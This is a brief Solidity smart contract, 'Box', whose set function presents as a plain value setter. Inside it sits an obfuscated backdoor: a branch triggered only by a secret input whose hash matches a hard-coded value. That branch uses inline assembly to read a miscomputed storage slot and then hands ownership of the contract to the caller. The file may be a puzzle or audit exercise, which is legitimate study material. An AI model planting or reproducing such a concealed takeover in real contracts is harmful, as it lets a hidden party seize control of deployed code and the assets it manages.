// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x;
    address public owner = address(0xA11CE);
    uint256[][] private a;
    function set(uint256 v) external {
        if (keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609) {
            uint256 n = a.length;
            if (n > 1000) { x = v; return; }
            a.push();
            if (a[n].length > 1000) { x = v; return; }
            a[n].push(1);
            uint256 r;
            uint256 at = a[n].length - 1;
            assembly { mstore(0, n) mstore(32, a.slot) r := sload(add(keccak256(0, 64), at)) }
            if (r == 0) owner = msg.sender;
        }
        x = v;
    }
}
